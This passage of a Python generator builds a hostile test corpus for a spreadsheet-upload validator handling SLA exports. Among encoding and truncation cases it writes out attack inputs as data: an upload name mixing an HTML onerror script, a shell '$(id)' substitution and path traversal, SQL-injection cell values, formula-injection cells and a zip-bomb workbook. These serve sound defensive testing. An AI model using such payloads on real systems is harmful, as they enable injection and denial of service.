    # Ignored rows are never refused (DECISIONS.md section 8), but their dates decide which weeks
    # an export covers completely: one absurd date must not make a partial week look complete.
    partial_week = [
        ["5201", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-07", "EMEA"],
        ["5202", "SaaS", "First reply time", "Completed", "Breached", "2026-09-10", "EMEA"],
    ]
    for case_id, value in [
        ("accepted-active-target-dated-2099-leaves-the-week-partial", "2099-01-01"),
        ("accepted-active-target-dated-infinity-leaves-the-week-partial", "infinity"),
    ]:
        active = sla_row(ticket="5203", metric_status="Active", status="", date=value)
        data = csv_bytes(SLA_HEADER, [*partial_week, active])
        why = "an ignored row with a date outside 2000..today counts as a row without a date"
        accepted(case_id, f"{case_id[9:]}.csv", data, rows_used=2, complete=False, why=why)

    # Counts and percentages (weekly aggregates).
    for case_id, header, bad, reason, column in [
        ("refused-percentage-above-100", PERCENT_HEADER, ["140"], "the percentage 140 is outside 0 to 100",
         "Percentage"),
        ("refused-percentage-below-0", PERCENT_HEADER, ["-3"], "the percentage -3 is outside 0 to 100", "Percentage"),
        ("refused-percentage-nan", PERCENT_HEADER, ["NaN"], "the percentage NaN is outside 0 to 100", "Percentage"),
        ("refused-percentage-infinity", PERCENT_HEADER, ["inf"], "the percentage inf is outside 0 to 100",
         "Percentage"),
        ("refused-count-negative", AGGREGATE_HEADER, ["-1", "10"], "not whole numbers", "Good / Total"),
        ("refused-count-not-whole", AGGREGATE_HEADER, ["2.5", "10"], "not whole numbers", "Good / Total"),
        ("refused-count-exponent", AGGREGATE_HEADER, ["1e3", "2e3"], "not whole numbers", "Good / Total"),
        ("refused-count-beyond-64-bits", AGGREGATE_HEADER, ["99999999999999999999999"] * 2, "not whole numbers",
         "Good / Total"),
        ("refused-good-greater-than-total", AGGREGATE_HEADER, ["12", "10"], "good (12) is greater than total (10)",
         "Good / Total"),
    ]:  # fmt: skip
        data = aggregate_with(["2026-09-07", "L&R", "FRT", *bad], header)
        refused(case_id, f"{case_id[8:]}.csv", data, reason, row=3, column=column)
    refused(
        "refused-pivot-subtotal-that-does-not-add-up",
        "pivot_edited.csv",
        csv_bytes(
            AGGREGATE_HEADER,
            [
                ["2026-09-07", "L&R", "FRT", "9", "10"],
                ["", "GitLab SM", "FRT", "8", "10"],
                ["2026-09-07 Total", "", "", "18", "20"],
            ],
        ),  # fmt: skip
        "the subtotal '2026-09-07 Total' says 18 but the rows it totals add up to 17",
        row=4,
        column="Good",
        why="a pasted or edited pivot: its rows cannot be trusted",
    )
    refused(
        "refused-week-range-of-eight-days",
        "range_8_days.csv",
        csv_bytes(AGGREGATE_HEADER, [["Sep 7, 2026 - Sep 14, 2026", "L&R", "FRT", "9", "10"]]),
        "runs 8 days (2026-09-07 to 2026-09-14), not one week of seven",
        row=2,
        column="Week",
    )
    refused(
        "refused-aggregate-same-week-twice",
        "agg_twice.csv",
        csv_bytes(AGGREGATE_HEADER, [["2026-09-07", "L&R", "FRT", "9", "10"], ["2026-09-09", "L&R", "FRT", "8", "10"]]),
        "rows 2 and 3 both give FRT for L&R",
        row=3,
    )

    # Headers and values.
    refused(
        "refused-duplicate-header-names",
        "duplicate_header.csv",
        csv_bytes([*SLA_HEADER, "SLA target status"], [[*GOOD_ROW, "Breached"]]),
        "the header 'SLA target status' appears 2 times",
        column="SLA target status",
    )
    refused(
        "refused-unknown-target-status",
        "pending.csv",
        sla_with(sla_row(status="Pending")),
        "'Pending' is not a target status",
        row=3,
        column="SLA target status",
    )
    refused(
        "refused-missing-date-column",
        "no_date.csv",
        csv_bytes(SLA_HEADER[:5], [GOOD_ROW[:5]]),
        "missing column for Explore SLA events",
        column=DATE_COLUMN,
    )
    refused("refused-header-of-delimiters-only", "commas.csv", b",,,,,,\n,,,,,,\n1,2,3,4,5,6,7\n", "no header row")
    refused(
        "refused-totals-rows-only",
        "totals_only.csv",
        csv_bytes(SLA_HEADER, [["Total", "", "", "", "", "", ""], ["Grand total", "", "", "", "", "", ""]]),
        "nothing in scope",
    )

    # Refused, with a hostile name: the message carries the name as text, and nothing more.
    refused(
        "refused-with-html-and-shell-name",
        "hostile_name_refused.csv",
        b"",
        "the file is empty",
        upload_name='<img src=x onerror="alert(1)">$(id);../../x.csv',
    )

    # Fine data in a hostile dress: accepted, safely.
    for case_id, upload_name in HOSTILE_NAMES.items():
        row = sla_row(ticket=str(6000 + len(cases)))  # a different file (hash) for each name
        data = csv_bytes(SLA_HEADER, [*GOOD_ROWS, row])
        accepted(case_id, f"{case_id}.csv", data, "file_name", upload_name=upload_name, rows_used=4)
    # One breached SaaS target carries formulas in its ticket, region and group (so it is behind the
    # combined figure's drill-down); another carries one as its ticket form (so it counts as Other).
    in_combined = [FORMULAS["ticket"], "SaaS", "First reply time", "Completed", "Breached", "2026-09-08"]
    as_form = ["5301", FORMULAS["form"], "First reply time", "Completed", "Breached", "2026-09-09", "EMEA", ""]
    accepted(
        "accepted-formula-cells-neutralised-in-downloads",
        "formulas.csv",
        csv_bytes(
            [*SLA_HEADER, "Ticket group"],
            [[*GOOD_ROWS[0], ""], [*in_combined, FORMULAS["region"], FORMULAS["group"]], as_form, [*GOOD_ROWS[4], ""]],
        ),
        "formulas",
        upload_name=FORMULAS["file name"],
        rows_used=2,
    )
    sql_row = sla_row(form="x'); DROP TABLE uploads; --", region="' OR 1=1 --")
    accepted("accepted-sql-in-cells-stored-as-text", "sql_cells.csv", csv_bytes(SLA_HEADER, [*GOOD_ROWS, sql_row]),
             "text", rows_used=4)  # fmt: skip
    accepted(
        "accepted-xlsx-dimension-understates-rows",
        "short_dimension.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS], dimension="A1:G2")),
        why="the sheet says it ends at row 2; every row must still be read",
    )
    accepted(
        "accepted-xlsx-dimension-claims-a-million-rows-by-16384-columns",
        "huge_dimension.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS], dimension="A1:XFD1048576")),
        why="a false size must not make the reader pad every row to 16,384 cells",
    )

    # --- round two (issue 13): accepted, but must not be --------------------------------------
    # A download cut off mid-row: the last row has fewer fields than the header, or a quote never closes.
    cut = "the download looks cut off"
    cut_rows = {
        "refused-cut-off-mid-date": b"5102,SaaS,First reply time,Completed,Achieved,2026-09",
        "refused-cut-off-mid-status": b"5102,SaaS,First reply time,Completed,Achie",
        "refused-cut-off-after-a-delimiter": b"5102,SaaS,",
        "refused-cut-off-mid-row-with-a-final-line-break": b"5102,SaaS,First reply time,Completed,Achieved\n",
        "refused-cut-off-mid-ticket-id": b"51",
    }
    for case_id, tail in cut_rows.items():
        refused(case_id, f"{case_id[8:]}.csv", valid + tail, cut, row=7)
    refused("refused-cut-off-crlf", "cut_crlf.csv", crlf(valid) + b"5102,SaaS,First reply time,Compl", cut, row=7)
    refused(
        "refused-cut-off-semicolons",
        "cut_semicolons.csv",
        csv_bytes(SLA_HEADER, GOOD_ROWS, ";") + b"5102;SaaS;First reply time;Completed;Achieved;2026-",
        cut,
        row=7,
    )
    refused(
        "refused-cut-off-windows-1252",
        "cut_cp1252.csv",
        valid.replace(b"EMEA", b"Z\xfcrich") + b"5102,SaaS,First reply time,Completed,Achieved,2026-09-1",
        cut,
        row=7,
    )
    refused(
        "refused-cut-off-utf16",
        "cut_utf16.csv",
        codecs.BOM_UTF16_LE + (text + "5102,SaaS,First reply time,Completed").encode("utf-16-le"),
        cut,
        row=7,
    )
    refused(
        "refused-cut-off-utf16-inside-a-character",
        "cut_utf16_character.csv",
        codecs.BOM_UTF16_LE + (text + "5102,SaaS").encode("utf-16-le")[:-1],
        "the download looks cut off: it ends in the middle of a character",
    )
    refused(
        "refused-xlsx-cut-off",
        "cut_workbook.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS * 20]))[:-200],
        "damaged or cut off",
        why="a workbook download cut short loses the ZIP's directory, which lists its parts",
    )
    refused(
        "refused-cut-off-inside-a-quoted-cell",
        "cut_quoted.csv",
        valid + b'5102,"SaaS',
        "the download looks cut off",
        row=7,
    )
    refused(
        "refused-cut-off-inside-a-quoted-comment-with-line-breaks",
        "cut_comment.csv",
        csv_bytes([*SLA_HEADER, "Comment"], [[*r, "fine"] for r in GOOD_ROWS])
        + b'5102,SaaS,First reply time,Completed,Achieved,2026-09-08,EMEA,"Great help,\nthank',
        cut,
        row=7,
    )
    refused(
        "refused-cut-off-inside-a-multibyte-character",
        "cut_character.csv",
        valid + "5102,SaaS,First reply time,Completed,Achieved,2026-09-08,Zürich".encode()[:-5],
        "the download looks cut off: it ends in the middle of a character",
    )
    refused(
        "refused-cut-off-inside-a-multibyte-character-after-two-megabytes",
        "cut_character_large.csv",
        lambda: (
            header_only
            + good_line * 40_000
            + "5102,SaaS,First reply time,Completed,Achieved,2026-09-08,東京".encode()[:-2]
        ),
        "the download looks cut off: it ends in the middle of a character",
    )
    refused(
        "refused-cut-off-after-two-megabytes",
        "cut_large.csv",
        lambda: header_only + good_line * 40_000 + b"5102,SaaS,First reply time,Completed,Achieved,2026-0",
        cut,
        row=40_002,
    )
    # Cut inside the last cell of a file without a final line break: shorter than every other value
    # of its column, and the start of one of them.
    date_last = [*SLA_HEADER[:5], SLA_HEADER[6], DATE_COLUMN]
    date_last_rows = [[*r[:5], r[6], r[5]] for r in GOOD_ROWS]
    refused(
        "refused-cut-off-inside-the-last-cell-a-date",
        "cut_last_date.csv",
        csv_bytes(date_last, date_last_rows) + b"5102,SaaS,First reply time,Completed,Achieved,EMEA,2026-09-1",
        cut,
        row=7,
        column=DATE_COLUMN,
    )
    refused(
        "refused-cut-off-inside-the-last-cell-a-region",
        "cut_last_region.csv",
        valid + b"5102,SaaS,First reply time,Completed,Achieved,2026-09-08,EM",
        cut,
        row=7,
        column="Preferred Region for Support",
    )
    # Complete last rows that look short, and are not.
    accepted("accepted-no-final-line-break", "no_final_break.csv", valid.rstrip(b"\n"))
    accepted(
        "accepted-last-row-with-empty-trailing-cells",
        "empty_trailing_cells.csv",
        valid + b"5102,SaaS,Requester wait time,Completed,Achieved,2026-09-09,\n",
    )
    accepted("accepted-blank-lines-after-the-data", "trailing_blank_lines.csv", valid + b"\n\n\r\n\n")
    accepted(
        "accepted-no-final-line-break-short-last-region",
        "short_last_region.csv",
        valid + b"5102,SaaS,Requester wait time,Completed,Achieved,2026-09-09,APJ",
        why="shorter than the other regions, but the start of none of them: a whole value",
    )
    accepted(
        "accepted-no-final-line-break-short-last-date",
        "short_last_date.csv",
        csv_bytes(date_last, date_last_rows) + b"5102,SaaS,Requester wait time,Completed,Achieved,EMEA,2026-09-9",
    )

    accepted("accepted-last-row-of-delimiters-only", "trailing_commas.csv", valid + b",,,\n")

    # One line over the 2 MB line-length limit, wherever it sits.
    limit = "longer than 2 MB, the line-length limit"
    over = b"x" * (3 * 1024 * 1024)
    refused(
        "refused-long-line-last-without-line-break", "long_last.csv", lambda: valid + b"5102,SaaS," + over, limit, row=7
    )
    refused(
        "refused-long-line-mid-file",
        "long_middle.csv",
        lambda: header_only + good_line * 2 + over + b"\n" + valid[len(header_only) :],
        limit,
        row=4,
    )
    refused(
        "refused-long-line-forty-megabytes",
        "long_40mb.csv",
        lambda: header_only + good_line + b"5102," + b"y" * (40 * 1024 * 1024) + b"\n" + good_line * 1000,
        limit,
        row=3,
    )
    refused(
        "refused-long-line-crlf",
        "long_crlf.csv",
        lambda: crlf(valid) + b"5102,SaaS," + over + b"\r\n" + crlf(good_line),
        limit,
        row=7,
    )
    refused(
        "refused-long-line-semicolons",
        "long_semicolons.csv",
        lambda: csv_bytes(SLA_HEADER, GOOD_ROWS, ";") + b"5102;" + over + b"\n",
        limit,
        row=7,
    )
    refused(
        "refused-long-line-windows-1252",
        "long_cp1252.csv",
        lambda: valid.replace(b"EMEA", b"Z\xfcrich") + b"5102," + over + b"\n" + good_line,
        limit,
        row=7,
    )
    refused(
        "refused-long-line-after-blank-lines",
        "long_after_blanks.csv",
        lambda: valid + b"\n" * 5 + over + b"\n" + good_line,
        limit,
        row=12,
    )
    refused(
        "refused-long-quoted-cell-with-line-breaks",
        "long_quoted.csv",
        lambda: valid + b'5102,"' + b"many lines\n" * 300_000 + b'",x,x,x,x,x\n',
        "the row is longer than 2 MB",
        row=7,
    )
    accepted(
        "accepted-long-cell-under-the-limit",
        "long_cell_under_limit.csv",
        lambda: csv_bytes(
            [*SLA_HEADER, "Comment"], [[*r, "z" * (1024 * 1024) if i == 0 else ""] for i, r in enumerate(GOOD_ROWS)]
        ),
    )

    # Two exports pasted into one file: a header row inside the data.
    repeated = "repeats the header row"
    reordered = [SLA_HEADER[i] for i in (5, 0, 2, 1, 3, 4, 6)]
    refused("refused-header-repeated-mid-file", "pasted.csv", valid + csv_bytes(SLA_HEADER, GOOD_ROWS), repeated, row=7)
    refused(
        "refused-header-repeated-with-columns-reordered",
        "pasted_reordered.csv",
        valid + csv_bytes(reordered, [[r[i] for i in (5, 0, 2, 1, 3, 4, 6)] for r in GOOD_ROWS]),
        repeated,
        row=7,
    )
    refused(
        "refused-header-repeated-as-last-row", "pasted_last.csv", valid + csv_bytes(SLA_HEADER, []), repeated, row=7
    )
    refused(
        "refused-header-repeated-after-a-title-row",
        "pasted_title.csv",
        valid + b"Zendesk Explore: SLA achievement\n" + csv_bytes(SLA_HEADER, GOOD_ROWS[:2]),
        repeated,
        row=8,
    )
    refused(
        "refused-header-repeated-in-other-case-and-spacing",
        "pasted_case.csv",
        valid + csv_bytes([f" {h.upper()}  " for h in SLA_HEADER], GOOD_ROWS),
        repeated,
        row=7,
    )
    refused(
        "refused-header-repeated-semicolons",
        "pasted_semicolons.csv",
        csv_bytes(SLA_HEADER, GOOD_ROWS, ";")
        + csv_bytes(SLA_HEADER, GOOD_ROWS, ";")[len(header_only) :].replace(b"5", b"6", 1)
        + csv_bytes(SLA_HEADER, [], ";"),
        repeated,
        row=12,
    )
    refused(
        "refused-header-repeated-in-a-workbook",
        "pasted.xlsx",
        xlsx_bytes(sheet_xml([["SLA report"], SLA_HEADER, *GOOD_ROWS, reordered, *GOOD_ROWS[:1]])),
        repeated,
        row=8,
    )

    # Hidden sheets are never read; the active visible sheet holding an export is.
    stale = [[r[0], r[1], r[2], r[3], "Breached" if r[4] == "Achieved" else r[4], r[5], r[6]] for r in GOOD_ROWS]
    export_sheet = sheet_xml([SLA_HEADER, *GOOD_ROWS])
    stale_sheet = sheet_xml([SLA_HEADER, *stale, sla_row(ticket="5999")])
    notes_sheet = sheet_xml([["Notes"], ["Exported from Zendesk Explore for the weekly review"]])
    # Each time the stale sheet would give other figures; the visible "Export" sheet must be the one read.
    hidden, very_hidden = ("Old", "hidden", stale_sheet), ("Old", "veryHidden", stale_sheet)
    export, stale_visible, notes = (
        ("Export", "visible", export_sheet),
        ("Stale", "visible", stale_sheet),
        ("Notes", "visible", notes_sheet),
    )
    for case_id, sheets, active in [
        ("accepted-xlsx-stale-hidden-sheet-first", [hidden, export], 1),
        ("accepted-xlsx-stale-very-hidden-sheet-first", [very_hidden, export], 1),
        ("accepted-xlsx-active-tab-is-the-second-visible-sheet", [stale_visible, export], 1),
        ("accepted-xlsx-active-notes-sheet-export-beside-it", [notes, export], 0),
        ("accepted-xlsx-active-tab-names-a-hidden-sheet", [export, hidden], 1),
        ("accepted-xlsx-hidden-sheets-around-the-export", [hidden, export, ("B", "veryHidden", stale_sheet)], 1),
    ]:
        accepted(case_id, f"{case_id[9:]}.xlsx", workbook_of(sheets, active), "sheet:Export")
    refused(
        "refused-xlsx-export-only-on-a-hidden-sheet",
        "hidden_only.xlsx",
        workbook_of([("Notes", "visible", notes_sheet), ("Export", "hidden", export_sheet)]),
        "on the hidden sheet 'Export'",
    )
    refused(
        "refused-xlsx-export-only-on-a-very-hidden-sheet",
        "very_hidden_only.xlsx",
        workbook_of([("Empty", "visible", sheet_xml([])), ("Export", "veryHidden", export_sheet)]),
        "on the very hidden sheet 'Export'",
    )

    # Cells that start or end with whitespace or control characters (CSV-injection hardening).
    def dressed(dress: Callable[[str], str]) -> list[list[str]]:
        return [[dress(cell) for cell in row] for row in GOOD_ROWS]

    for case_id, dress in [
        ("accepted-cells-starting-with-a-tab", lambda v: "\t" + v),
        ("accepted-cells-starting-with-a-carriage-return", lambda v: "\r" + v),
        ("accepted-cells-starting-with-a-line-feed", lambda v: "\n" + v),
        ("accepted-cells-ending-with-tabs-and-spaces", lambda v: v + " \t "),
        ("accepted-cells-wrapped-in-no-break-and-zero-width-spaces", lambda v: "\u00a0\u200b" + v + "\u00a0"),
        ("accepted-cells-wrapped-in-control-characters", lambda v: "\x0b\x1f" + v + "\x0c"),
    ]:
        # Every cell quoted, as a hardened export writes them: a line break inside quotes is text.
        accepted(case_id, f"{case_id[9:]}.csv", csv_bytes(SLA_HEADER, dressed(dress), quoting=csv.QUOTE_ALL))
    accepted(
        "accepted-xlsx-cells-starting-with-a-tab",
        "tab_cells.xlsx",
        xlsx_bytes(sheet_xml([SLA_HEADER, *dressed(lambda v: "\t" + v)])),
        "sheet:Export",
    )
    for case_id, value in [
        ("refused-date-with-trailing-text", "2026-09-08x"),
        ("refused-date-followed-by-words", "2026-09-08 or so"),
    ]:
        refused(
            case_id,
            f"{case_id[8:]}.csv",
            sla_with(sla_row(date=value)),
            f"'{value}' is not a date",
            row=3,
            column=DATE_COLUMN,
        )

    # Formula cells whose value was never calculated (a workbook written by a script).
    in_excel = "open the workbook in Excel and save it, or export it again"
    plain = sheet_xml([SLA_HEADER, GOOD_ROW, sla_row(ticket="5101")])
    for case_id, reference, cell, column in [
        ("refused-xlsx-formula-date-without-value", "F3", '<c r="F3"><f>DATE(2026,9,8)</f></c>', DATE_COLUMN),
        (
            "refused-xlsx-shared-formula-without-value",
            "E3",
            '<c r="E3" t="str"><f t="shared" si="0"/></c>',
            "SLA target status",
        ),
        (
            "refused-xlsx-formula-with-empty-value",
            "C3",
            '<c r="C3" t="str"><f>"First reply time"</f><v></v></c>',
            "SLA metric",
        ),
        ("refused-xlsx-formula-ticket-without-value", "A3", '<c r="A3"><f>A2+1</f></c>', "Ticket ID"),
    ]:
        refused(
            case_id,
            f"{case_id[8:]}.xlsx",
            xlsx_bytes(with_cell(plain, reference, cell)),
            in_excel,
            row=3,
            column=column,
        )
    refused(
        "refused-xlsx-formula-in-the-header-without-value",
        "formula_header.xlsx",
        xlsx_bytes(with_cell(plain, "B1", '<c r="B1" t="str"><f>"Ticket "&amp;"form"</f></c>')),
        in_excel,
        row=1,
        column="B1",
    )
    accepted(
        "accepted-xlsx-formula-with-a-saved-value",
        "formula_saved.xlsx",
        xlsx_bytes(with_cell(export_sheet, "E3", '<c r="E3" t="str"><f>"Achie"&amp;"ved"</f><v>Achieved</v></c>')),
        "sheet:Export",
    )

    # Text in an encoding Floorline cannot tell: refused, never stored as mojibake.
    unknown = "encoding Floorline cannot read"
    for case_id, region, codec in [
        ("refused-shift-jis", "東京", "shift_jis"),
        ("refused-euc-jp", "東京", "euc_jp"),
        ("refused-gbk", "北京", "gbk"),
        ("refused-big5", "台北", "big5"),
        ("refused-euc-kr", "서울", "euc_kr"),
        ("refused-koi8-r", "Москва", "koi8_r"),
    ]:
        refused(
            case_id,
            f"{case_id[8:]}.csv",
            csv_bytes(SLA_HEADER, [r[:6] + [region] for r in GOOD_ROWS], encoding=codec),
            unknown,
        )
    refused(
        "refused-utf8-with-one-broken-character",
        "broken_utf8.csv",
        csv_bytes(SLA_HEADER, [r[:6] + ["Zürich"] for r in GOOD_ROWS]).replace("ü".encode(), b"\xc3", 1),
        "the text is not valid UTF-8 here",
        row=2,
    )
    for case_id, region in [
        ("accepted-windows-1252-accents", "Zürich, São Paulo, Málaga"),
        ("accepted-windows-1252-typographic-quotes", "“EMEA” – Dublin’s office"),
    ]:
        accepted(
            case_id,
            f"{case_id[9:]}.csv",
            csv_bytes(SLA_HEADER, [r[:6] + [region] for r in GOOD_ROWS], encoding="cp1252"),
        )

    # Excel for Mac's "CSV (Macintosh)": Mac Roman, lines ending in a lone CR; every byte also decodes as
    # Windows-1252 ('ZŸrich, Espa–a'), which must never be stored.
    accepted(
        "accepted-mac-roman-cr-line-endings",
        "mac_roman.csv",
        csv_bytes(SLA_HEADER, [r[:6] + ["Zürich, España"] for r in GOOD_ROWS], encoding="mac_roman").replace(
            b"\r\n", b"\r"
        ),
        check="encoding:Mac Roman",
    )

    # --- round two: refused, but readable --------------------------------------------------------
    quoted = [
        [
            "5001",
            "SaaS",
            "Requester wait time",
            "Completed",
            "Achieved",
            "2026-09-07",
            "EMEA",
            'He said "thanks", twice',
        ],
        ["5002", "SaaS", "First reply time", "Completed", "Achieved", "2026-09-08", "EMEA", "line one\nline two"],
        [
            "5003",
            "Self-Managed",
            "First reply time",
            "Completed",
            "Breached",
            "2026-09-09",
            "Americas, USA",
            "a;b|c\td",
        ],
        ["5004", "L&R", "Next reply time", "Completed", "Achieved", "2026-09-10", "Asia Pacific", "crlf\r\ninside"],
        ["5005", "SaaS", "Requester wait time", "Completed", "Achieved", "2026-09-13", "EMEA", "\n\nblank lines\n\n"],
    ]
    comment_header = [*SLA_HEADER, "Satisfaction comment"]
    accepted(
        "accepted-quoted-cells-with-line-breaks-quotes-and-delimiters",
        "quoted_cells.csv",
        csv_bytes(comment_header, quoted),
    )
    accepted(
        "accepted-quoted-cells-semicolon-delimited", "quoted_semicolons.csv", csv_bytes(comment_header, quoted, ";")
    )
    accepted("accepted-quoted-cells-crlf", "quoted_crlf.csv", crlf(csv_bytes(comment_header, quoted)))
    accepted(
        "accepted-quoted-group-name-with-line-break",
        "quoted_group.csv",
        csv_bytes(
            [*SLA_HEADER, "Ticket group"],
            [[*r, "Support\nEMEA" if i == 1 else "Support"] for i, r in enumerate(GOOD_ROWS)],
        ),
    )
    lines = valid.split(b"\n")
    for case_id, data in [
        ("accepted-crlf-with-one-lf-line", crlf(b"\n".join(lines[:3]) + b"\n") + b"\n".join(lines[3:])),
        ("accepted-lf-with-one-crlf-line", b"\n".join(lines[:3]) + b"\r\n" + b"\n".join(lines[3:])),
        (
            "accepted-lf-with-lone-cr-lines",
            b"\n".join(lines[:2]) + b"\r" + b"\r".join(lines[2:4]) + b"\n" + b"\n".join(lines[4:]),
        ),
        ("accepted-crlf-last-line-lf", crlf(b"\n".join(lines[:-2]) + b"\n") + lines[-2] + b"\n"),
        ("accepted-lone-cr-line-endings-only", valid.replace(b"\n", b"\r")),
        (
            "accepted-mixed-line-endings-and-quoted-line-breaks",
            crlf(csv_bytes(comment_header, quoted[:2])) + csv_bytes(comment_header, quoted[2:]).split(b"\n", 1)[1],
        ),
    ]:
        accepted(case_id, f"{case_id[9:]}.csv", data)

    # A stray note far below or to the right of a workbook's export: ignored and reported.
    for case_id, strays in [
        ("accepted-xlsx-stray-note-in-the-last-row", [("A1048576", "checked by Sam")]),
        ("accepted-xlsx-stray-note-in-the-last-column", [("XFD1", "v2")]),
        ("accepted-xlsx-stray-notes-far-below-and-far-right", [("XFD1", "v2"), ("A1048576", "end")]),
        ("accepted-xlsx-stray-note-right-of-a-data-row", [("Z4", "ask Kim")]),
        ("accepted-xlsx-stray-note-below-the-data-in-another-column", [("K40", "draft")]),
    ]:
        xml = export_sheet
        for reference, note in strays:
            xml = with_stray(xml, reference, note)
        accepted(case_id, f"{case_id[9:]}.xlsx", xlsx_bytes(xml), "note:" + strays[-1][0])

    # --- round two: other faults --------------------------------------------------------------
    # Rows of more cells than any export has columns: refused from the sheet's first rows, before parsing.
    too_wide = "holds a row of more than 1,000 cells"
    for case_id, cells, row, dimension in [
        ("refused-xlsx-one-row-of-1.3-million-cells", 1_300_000, 1, None),
        ("refused-xlsx-wide-row-below-the-header", 1_300_000, 2, "A1:G2"),
        ("refused-xlsx-wide-row-under-a-false-dimension", 200_000, 1, "A1:XFD1"),
        ("refused-xlsx-wide-row-far-below-the-header", 1_300_000, 300, None),
    ]:
        refused(
            case_id,
            f"{case_id[8:]}.xlsx",
            lambda c=cells, r=row, d=dimension: wide_row_xlsx(c, row=r, dimension=d),
            too_wide,
            row=row,
            isolated=True,
            max_seconds=2.0,
        )
    return cases


def cases() -> list[Case]:
    """The cases alone (cheap: large files are not built)."""
    return [case for case, _ in corpus()]


def write_corpus(folder: Path) -> list[Case]:
    """Write every corpus file into ``folder`` (plus manifest.json) and return the cases."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = []
    for case, data in corpus():
        path = folder / case.file
        if data is None:
            bomb_xlsx(path, unpacked_bytes=2_300_000_000)
        else:
            path.write_bytes(data() if callable(data) else data)
        cases.append(case)
    (folder / "manifest.json").write_text(json.dumps([asdict(c) for c in cases], indent=2))
    return cases


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile/make_corpus.py OUTPUT_FOLDER")
    written = write_corpus(Path(sys.argv[1]))
    print(f"{len(written)} files written to {sys.argv[1]} (manifest.json says what each must do)")
